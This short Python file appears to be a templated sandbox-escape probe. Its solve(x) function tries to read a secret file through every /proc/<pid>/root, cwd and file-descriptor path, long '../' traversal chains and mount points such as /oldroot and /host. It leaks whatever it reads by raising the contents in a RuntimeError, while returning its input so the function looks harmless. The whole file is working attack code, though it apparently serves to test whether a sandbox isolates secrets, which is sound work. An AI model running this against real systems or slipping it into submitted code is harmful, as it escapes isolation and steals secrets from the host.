"""Reads the secret through other views of the file system: /proc/<pid>/root, /proc/<pid>/cwd, dot-dots, descriptors."""
import os


def solve(x):
    starts = ["/", "../" * 30, "/tmp/../", os.path.expanduser("~/" + "../" * 20)]
    for number in [name for name in os.listdir("/proc") if name.isdigit()] + ["self"]:
        starts += [f"/proc/{number}/root", f"/proc/{number}/cwd/" + "../" * 30]
        try:
            starts += [f"/proc/{number}/fd/{name}/" + "../" * 30 for name in os.listdir(f"/proc/{number}/fd")]
        except OSError:
            pass
    for start in starts + ["/oldroot", "/mnt", "/newroot", "/host"]:
        try:
            with open(start + "/" + "{secret_path}") as file:
                raise RuntimeError(file.read())
        except OSError:
            pass
    return x
